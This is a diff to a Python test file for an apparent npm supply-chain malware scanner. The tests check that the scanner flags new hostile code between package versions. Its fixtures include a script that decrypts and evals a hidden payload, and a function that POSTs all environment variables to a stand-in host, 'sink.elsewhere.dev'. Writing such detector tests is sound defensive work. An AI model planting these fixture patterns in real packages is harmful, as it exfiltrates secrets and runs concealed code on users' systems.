@@ -3,9 +3,10 @@
 import pytest
 
 from pratique.analysis.chains import TEMPLATES
+from pratique.analysis.chains.finding import MOST_CHAINS
 from pratique.analysis.rules.attack_gained import GRAVE, OF_ONE_FILE, SENT_TO_NEWS
 from pratique.core.finding import Confidence, Severity
-from tests.analysis.inspecting import npm, of_rule, wheel
+from tests.analysis.inspecting import npm, of_rule, package_json, wheel
 
 RULE = "attack-gained"
 CALM = {"sample/__init__.py": "class Box(dict):\n    pass\n"}
@@ -79,6 +80,18 @@ def test_an_address_that_is_hidden_in_an_encoding_is_held() -> None:
     assert "where.pratique.invalid" in finding.message
 
 
+def test_a_command_is_code_that_people_run() -> None:
+    def package(code: str) -> dict[str, str]:
+        return {"package.json": package_json(bin={"sample": "cli.js"}), "cli.js": code}
+
+    runs = (
+        "const {createDecipheriv} = require('crypto');\nconst d = createDecipheriv('aes-256-cbc', key, iv);\n"
+    )
+    runs += "eval(d.update(name, 'hex', 'utf8') + d.final('utf8'));\n"
+    (finding,) = of_rule(npm(package(runs), package("1\n")), RULE)
+    assert "when its command is run: it runs what it decrypted as code" in finding.message
+
+
 def test_code_that_no_entry_reaches_stays_quiet() -> None:
     calm = {"index.js": "exports.map = x => x\n"}
     assert [] == of_rule(npm({**calm, "scripts/build.js": LOADS}, calm), RULE)
@@ -93,3 +106,32 @@ def test_without_a_baseline_it_does_not_apply() -> None:
 def test_the_lists_name_templates_that_exist_once() -> None:
     assert GRAVE | SENT_TO_NEWS | OF_ONE_FILE <= {template.id for template in TEMPLATES}
     assert len(GRAVE) + len(SENT_TO_NEWS) + len(OF_ONE_FILE) == len(GRAVE | SENT_TO_NEWS | OF_ONE_FILE)
+
+
+SENDS = """const https = require('https');
+exports.go = function () {
+  const asked = https.request({hostname: 'sink.elsewhere.dev', path: '/x', method: 'POST'});
+  asked.end(JSON.stringify(process.env));
+};
+"""
+
+
+def test_a_host_that_only_the_new_manifest_calls_its_own_is_a_strangers() -> None:
+    def package(home: str, code: str) -> dict[str, str]:
+        return {"package.json": package_json(main="index.js", homepage=home), "index.js": code}
+
+    calm, theirs, ours = "exports.go = () => 1\n", "https://www.elsewhere.dev/", "https://sample-project.dev/"
+    (finding,) = of_rule(npm(package(theirs, SENDS), package(ours, calm)), RULE)
+    assert "sink.elsewhere.dev" in finding.message
+    assert [] == of_rule(npm(package(theirs, SENDS), package(theirs, calm)), RULE)
+
+
+def test_files_full_of_what_is_no_attack_hide_none() -> None:
+    calm = {"index.js": "exports.go = () => 1\n"}
+    harmless = {
+        f"lib/a{n:03}.js": f"exports.run = () => eval(Buffer.from(process.argv[{n}], 'base64').toString());\n"
+        for n in range(MOST_CHAINS + 10)
+    }
+    asks = "".join(f"require('./{path}');\n" for path in (*harmless, "lib/z.js"))
+    (finding, *_) = of_rule(npm({"index.js": asks, **harmless, "lib/z.js": LOADS}, calm), RULE)
+    assert "lib/z.js" == finding.locations[0].path
